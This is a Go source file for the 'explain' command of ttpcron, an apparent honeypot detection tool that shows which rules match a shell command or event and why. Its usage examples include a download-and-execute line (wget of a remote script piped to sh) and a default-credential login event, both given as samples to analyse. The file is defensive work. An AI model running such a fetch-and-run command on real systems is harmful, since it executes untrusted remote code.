package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"slices"
	"strings"
	"time"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/attack"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/cli"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/ruleset"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/term"
	"github.com/ttpcron/ttpcron/jobs"
	"github.com/ttpcron/ttpcron/tagger"
)

func explainCommand() *command {
	fs := cli.NewFlags()
	asJSON := fs.Bool("json", false, "print one JSON object")
	tag := fs.String("tag", "", "explain the stored tag with this `UUID`, or one that begins so, instead of a command")
	var about correlationQuestion
	about.define(fs)
	event := fs.Bool("event", false, "the argument is an event: native JSON, or the id of a stored event")
	return &command{
		Name: "explain", Args: "COMMAND", Short: "show which rules match a command, and why", Flags: fs, Unstored: true,
		Text: `Judges one shell command as a run would: how it is parsed, which rules match, on
which part of it, and what they emit. Several arguments are joined by spaces; -
reads the command from standard input. It needs no store. If there is one, its
rule states apply.

--tag shows where a stored tag came from: its event, the rule and version that
made it, and which test of the rule matched what. It also says whether the
present rule would make it, or why not. ttpcron tags --uuid shows UUIDs, and
tags --json has those of all tags; the first 8 characters will do. For a
correlation's tag it lists the events that counted, in order, and what was
reached at each.

--correlation shows how close a group came to satisfying a correlation: when it
came closest, and what was missing. --group names the group by its value: an
address, a user name, or another value that the rule groups by. If several
groups match, they are listed. Rules are used as their files define them,
whatever their state.

--event judges a login, a file, a tunnel or any other event. A stored event is
named by its source_id, which tags --json and export-events show. The search
goes through the history from the newest day.`,
		Examples: `ttpcron explain "cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"
echo 'cat /proc/cpuinfo' | ttpcron explain -
ttpcron explain --tag 12b85d08-9418-5441-bae2-e8c4a3b0381e
ttpcron explain --correlation TC4009 --group 203.0.113.147
ttpcron explain --event sha256:2f6a8413eed23838bb62c45e170e671b
ttpcron explain --event '{"source_kind":"auth_attempt","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"username":"pi","password":"raspberry","success":true}}'`,
		Exits: []int{exitFailed, exitLocked, exitInterrupted},
		Run: func(ctx context.Context, s *session, args []string) error {
			if err := about.misused(); err != nil {
				return err
			}
			if about.rule != "" {
				if *tag != "" || *event {
					return cli.Usagef("--correlation takes no --tag and no --event")
				}
				if err := cli.NoArgs(args); err != nil {
					return err
				}
				about.json = *asJSON
				return explainCorrelation(ctx, s, &about)
			}
			if *tag != "" {
				if err := cli.NoArgs(args); err != nil {
					return err
				}
				return explainTag(ctx, s, *tag, *asJSON)
			}
			e, err := eventToExplain(ctx, s, args, *event)
			if err != nil {
				return err
			}
			rs, life, report, err := rulesWithLife(ctx, s)
			if err != nil {
				return err
			}
			ruleset.Warn(s.log, report)
			x := rs.Explain(e)
			if *asJSON {
				shown := explanationOf(s.now, x, life, s.set.Attack)
				if *event {
					shown.Event = &e
				}
				return s.out.JSON(shown)
			}
			return explainText(s.out, x, life, s.set.Attack)
		},
	}
}

// eventToExplain makes an event from the arguments, or finds the named one.
func eventToExplain(ctx context.Context, s *session, args []string, event bool) (ttpcron.Event, error) {
	if len(args) == 0 {
		return ttpcron.Event{}, cli.Usage("explain needs a command", `quote it: ttpcron explain "uname -a"`)
	}
	text := strings.Join(args, " ")
	if text == "-" {
		b, err := io.ReadAll(io.LimitReader(s.stdin, ttpcron.MaxText+1))
		if err != nil {
			return ttpcron.Event{}, err
		}
		text = strings.TrimSuffix(string(b), "\n")
	}
	if len(text) > ttpcron.MaxText {
		return ttpcron.Event{}, fmt.Errorf("the command is longer than %d bytes", ttpcron.MaxText)
	}
	if !event {
		return ttpcron.Event{
			Kind: ttpcron.Command, ID: "explain", Time: s.now().UTC(), AttackerIP: "192.0.2.1",
			Payload: ttpcron.TextPayload("command_text", text),
		}, nil
	}
	if !strings.HasPrefix(strings.TrimSpace(text), "{") {
		return storedEvent(ctx, s, text)
	}
	var e ttpcron.Event
	const such = "ttpcron export-events prints events as --event takes them"
	var syntax *json.SyntaxError
	if err := json.Unmarshal([]byte(text), &e); errors.As(err, &syntax) {
		return e, cli.Usage(fmt.Sprintf("--event is not JSON: it goes wrong at byte %d", syntax.Offset), such)
	} else if err != nil {
		return e, cli.Usage(fmt.Sprintf("--event: %v", err), such)
	}
	if err := e.Validate(); err != nil {
		return e, cli.Usage(fmt.Sprintf("--event: %v", err), such)
	}
	if e.ID == "" {
		e.ID = e.ContentID()
	}
	return e, nil
}

// storedEvent finds an event of any kind by its id, the newest first.
func storedEvent(ctx context.Context, s *session, id string) (ttpcron.Event, error) {
	db, err := s.stores.Read(ctx)
	if err != nil {
		return ttpcron.Event{}, err
	}
	defer db.Close()
	kinds, err := db.History.Kinds(ctx)
	if err != nil {
		return ttpcron.Event{}, err
	}
	days := map[ttpcron.Day][]ttpcron.SourceKind{}
	for _, kind := range kinds {
		for d, err := range jobs.Days(ctx, db.History, kind) {
			if err != nil {
				return ttpcron.Event{}, err
			}
			days[d.Day] = append(days[d.Day], kind)
		}
	}
	for _, day := range slices.Backward(slices.Sorted(maps.Keys(days))) {
		for _, kind := range days[day] {
			if e, found, err := db.History.EventByID(ctx, kind, day, id); err != nil || found {
				return e, err
			}
		}
	}
	return ttpcron.Event{}, cli.Hint(fmt.Errorf("there is no event %.200q in %s", id, db.Path()), "tags --json and export-events show the ids of events as source_id; those of pruned days are gone")
}

// eventParts prints an event that is not a command, in full.
func eventParts(out *term.Output, e *ttpcron.Event) {
	if e.Kind == ttpcron.Command && e.Seq == 0 {
		return // it stands on the command line
	}
	w, t := out, out.Term
	about := ttpcron.Tag{AttackerIP: e.AttackerIP, AttackerUUID: e.AttackerUUID, IdentityUUID: e.IdentityUUID, SessionID: e.SessionID, DeckyID: e.DeckyID, Vantage: e.Vantage}
	fmt.Fprintf(w, "%s %s at %s%s\n", t.Paint(term.Bold, term.Clean(string(e.Kind))), term.Clean(e.SourceID()), term.Time(e.Time), origin(&about, ttpcron.MarkNone))
	for _, f := range e.Payload {
		value := f.Text
		if f.Raw != nil {
			value = string(f.Raw)
		}
		fmt.Fprintf(w, "  %s  %s\n", term.Clean(f.Name), t.Cut(term.Clean(value[:min(len(value), 4*2000)]), 2000))
	}
	fmt.Fprintln(w)
}

// textParts prints the parts of a text.
func textParts(out *term.Output, x tagger.Explanation) {
	w, t := out, out.Term
	layers(out, x.Layers)
	if len(x.Signals) > 0 {
		fmt.Fprintln(w, t.Paint(term.Bold, "derived from the trigger"))
		for _, f := range x.Signals {
			value := f.Text
			if f.Raw != nil {
				value = string(f.Raw)
			}
			fmt.Fprintf(w, "  %s %s\n", term.Clean(f.Name), t.Cut(term.Clean(value), 200))
		}
		fmt.Fprintln(w)
	}
	if len(x.Commands) > 1 || len(x.Layers) > 0 {
		simpleCommands(out, x.Commands)
		fmt.Fprintln(w)
	}
	for i, c := range x.Carried {
		number := ""
		if len(x.Carried) > 1 {
			number = fmt.Sprintf(" %d", i+1)
		}
		fmt.Fprintf(w, "%s, in %s, %s\n  %s\n", t.Paint(term.Bold, "carried command"+number), term.Clean(c.In), term.Clean(c.How), t.Cut(term.Clean(c.Text), 2000))
		layers(out, c.Layers)
		if len(c.Commands) > 1 || len(c.Layers) > 0 {
			simpleCommands(out, c.Commands)
		}
		fmt.Fprintln(w)
	}
}

func layers(out *term.Output, list []tagger.LayerView) {
	for _, l := range list {
		fmt.Fprintf(out, "%s %s\n", out.Term.Paint(term.Dim, "decoded ("+term.Clean(l.Method)+")"), out.Term.Cut(term.Clean(l.Text), 400))
	}
}

func simpleCommands(out *term.Output, list []tagger.CommandView) {
	fmt.Fprintln(out, out.Term.Paint(term.Bold, term.Plural(len(list), "simple command", "simple commands")))
	for i, c := range list {
		fmt.Fprintf(out, "  %2d  %s%s\n", i+1, strings.Repeat("  ", min(c.Depth, 8)), out.Term.Cut(term.Clean(c.Line), 400))
	}
}

func explainText(out *term.Output, x tagger.Explanation, life ruleset.Life, under *attack.Table) error {
	w := out
	eventParts(out, &x.Event)
	textParts(out, x)
	for i, j := range x.Rules {
		if i > 0 {
			fmt.Fprintln(w)
		}
		judgement(out, w, x, j, under)
		if s := j.Rule.State; s.Status != ttpcron.StatusEnabled {
			fmt.Fprintf(w, "  state: %s\n", decided(s.String(), s.SetBy, s.SetAt, s.Reason))
		}
		if r := life.HidesRule(&j.Rule); r != nil {
			fmt.Fprintf(w, "  tags are hidden: %s\n", decided("retired", r.SetBy, r.SetAt, r.Reason))
		}
	}
	switch {
	case x.Verdict.Skipped:
		fmt.Fprintln(w, whySkipped(&x.Event))
	case len(x.Rules) == 0:
		fmt.Fprintln(w, "No rule matches.")
	}
	if x.Verdict.Bounded {
		fmt.Fprintln(w, "\nA rule met a limit of work or size and did not finish.")
	}
	return nil
}

// whySkipped says why no rule has looked at an event.
func whySkipped(e *ttpcron.Event) string {
	if e.Kind == ttpcron.Command {
		return "No rule applies to such an event: it has no text."
	}
	return fmt.Sprintf("No rule applies to events of the kind %s.", term.Clean(string(e.Kind)))
}

// judgement prints one rule's finding.
func judgement(out *term.Output, w io.Writer, x tagger.Explanation, j tagger.Match, under *attack.Table) {
	t := out.Term
	fmt.Fprintf(w, "%s  %s\n", t.Paint(term.Cyan, term.Clean(j.Rule.ID)), t.Paint(term.Bold, term.Clean(j.Rule.Name)))
	text, commands := x.Text, x.Commands
	if j.Carried >= 0 && j.Carried < len(x.Carried) {
		text, commands = x.Carried[j.Carried].Text, x.Carried[j.Carried].Commands
		if len(x.Carried) > 1 {
			fmt.Fprintf(w, "  on carried command %d\n", j.Carried+1)
		}
	}
	for _, h := range j.Hits {
		where := ""
		if h.Command >= 0 && h.Command < len(commands) && len(commands) > 1 {
			where = fmt.Sprintf(" of command %d", h.Command+1)
		}
		fmt.Fprintf(w, "  %s%s %s: %s\n", term.Clean(h.Field), where, term.Clean(h.Test), t.Paint(term.Green, t.Cut(term.Clean(h.Value), 200)))
		if line := underline(text, h.Start, h.End, t); line != "" {
			fmt.Fprint(w, line)
		}
	}
	for _, tag := range shownOnce(under, j.Tags) {
		id := tag.Shown.Technique()
		fmt.Fprintf(w, "  %s %s %s, %s, confidence %.2f, level %s\n", t.Paint(term.Yellow, "→"), term.Clean(id), techniqueName(under, id), tacticName(under, tag.Shown.Tactic), tag.Confidence, tag.Level)
	}
	for _, id := range feeds(&j) {
		fmt.Fprintf(w, "  %s feeds the correlation %s\n", t.Paint(term.Yellow, "→"), term.Clean(id))
	}
	if j.Dropped != "" && (len(j.Rule.Claims) > 0 || len(j.Rule.Feeds) == 0 || j.Carried >= 0) {
		fmt.Fprintf(w, "  no tag: %s\n", term.Clean(j.Dropped))
	}
}

// feeds lists the correlations that a match counts in: those of a carried command count in
// none.
func feeds(j *tagger.Match) []string {
	if j.Carried >= 0 {
		return nil
	}
	return j.Rule.Feeds
}

// underline shows a part of a text with some of its surroundings.
func underline(text string, start, end int, t term.Terminal) string {
	const around = 30
	if start < 0 || end <= start || end > len(text) {
		return ""
	}
	from, to := max(0, start-around), min(len(text), end+around)
	before := term.Clean(strings.ToValidUTF8(text[from:start], ""))
	part := t.Cut(term.Clean(text[start:end]), 100)
	after := term.Clean(strings.ToValidUTF8(text[end:to], ""))
	if from > 0 {
		before = "..." + before
	}
	if to < len(text) {
		after += "..."
	}
	return fmt.Sprintf("      %s%s%s\n      %s%s\n", before, part, after, strings.Repeat(" ", term.Cells(before)), t.Paint(term.Green, strings.Repeat("^", max(1, term.Cells(part)))))
}

type explanationJSON struct {
	Event   *ttpcron.Event  `json:"event,omitempty"` // that was asked about by --event
	Signals ttpcron.Payload `json:"signals"`
	Text    term.Exact      `json:"text"`
	Layers  []layerJSON     `json:"layers"`
	Lines   []commandJSON   `json:"commands"`
	Carried []carriedJSON   `json:"carried,omitempty"` // commands that a request carries
	Rules   []judgementJSON `json:"rules"`
	Tags    []shownTag      `json:"tags"`
	Skipped bool            `json:"skipped"`
	Bounded bool            `json:"bounded"`
}

// layerJSON has the names that [tagger.LayerView] has.
type layerJSON struct {
	Method     string
	Text       term.Exact
	Start, End int
}

type carriedJSON struct {
	FoundIn string        `json:"found_in"`
	Text    term.Exact    `json:"text"`
	Layers  []layerJSON   `json:"layers"`
	Lines   []commandJSON `json:"commands"`
}

type commandJSON struct {
	Line    term.Exact `json:"line"`
	Program term.Exact `json:"program"`
	Depth   int        `json:"depth"`
}

type judgementJSON struct {
	RuleID  string     `json:"rule_id"`
	Version int        `json:"rule_version"`
	Name    string     `json:"name"`
	Level   string     `json:"level"`
	Dropped string     `json:"dropped,omitempty"`
	Feeds   []string   `json:"feeds,omitempty"` // correlations that name the rule
	State   *stateJSON `json:"state,omitempty"` // of a rule that is disabled or clipped
	Retired bool       `json:"retired,omitempty"`
	Carried *int       `json:"carried,omitempty"` // which of the carried commands matched; the hits are in its text
	Hits    []hitJSON  `json:"hits"`
	Tags    []shownTag `json:"tags"`
}

type hitJSON struct {
	Field   string     `json:"field"`
	Test    string     `json:"test"`
	Value   term.Exact `json:"value"`
	Command *int       `json:"command"`
	Start   *int       `json:"start"`
	End     *int       `json:"end"`
}

func partsJSON(layers []tagger.LayerView, commands []tagger.CommandView) (decoded []layerJSON, lines []commandJSON) {
	for _, l := range layers {
		decoded = append(decoded, layerJSON{l.Method, term.Exact(l.Text), l.Start, l.End})
	}
	for _, c := range commands {
		lines = append(lines, commandJSON{term.Exact(c.Line), term.Exact(c.Program), c.Depth})
	}
	return decoded, lines
}

func explanationOf(now func() time.Time, x tagger.Explanation, life ruleset.Life, under *attack.Table) explanationJSON {
	out := explanationJSON{Signals: x.Signals, Text: term.Exact(x.Text), Tags: shownOnce(under, x.Tags), Skipped: x.Verdict.Skipped, Bounded: x.Verdict.Bounded}
	out.Layers, out.Lines = partsJSON(x.Layers, x.Commands)
	for _, c := range x.Carried {
		one := carriedJSON{FoundIn: c.In + ", " + c.How, Text: term.Exact(c.Text)}
		one.Layers, one.Lines = partsJSON(c.Layers, c.Commands)
		out.Carried = append(out.Carried, one)
	}
	for _, j := range x.Rules {
		one := judgementJSON{RuleID: j.Rule.ID, Version: j.Rule.Version, Name: j.Rule.Name, Level: j.Rule.Level.String(), Dropped: j.Dropped, Feeds: feeds(&j), Tags: shownOnce(under, j.Tags), Retired: life.HidesRule(&j.Rule) != nil}
		if j.Rule.State.Status != ttpcron.StatusEnabled {
			s := stateOf(now, j.Rule.State)
			one.State = &s
		}
		if j.Carried >= 0 {
			one.Carried = &j.Carried
		}
		for _, h := range j.Hits {
			hit := hitJSON{Field: h.Field, Test: h.Test, Value: term.Exact(h.Value)}
			if h.Command >= 0 {
				hit.Command = &h.Command
			}
			if h.Start >= 0 {
				hit.Start, hit.End = &h.Start, &h.End
			}
			one.Hits = append(one.Hits, hit)
		}
		out.Rules = append(out.Rules, one)
	}
	return out
}
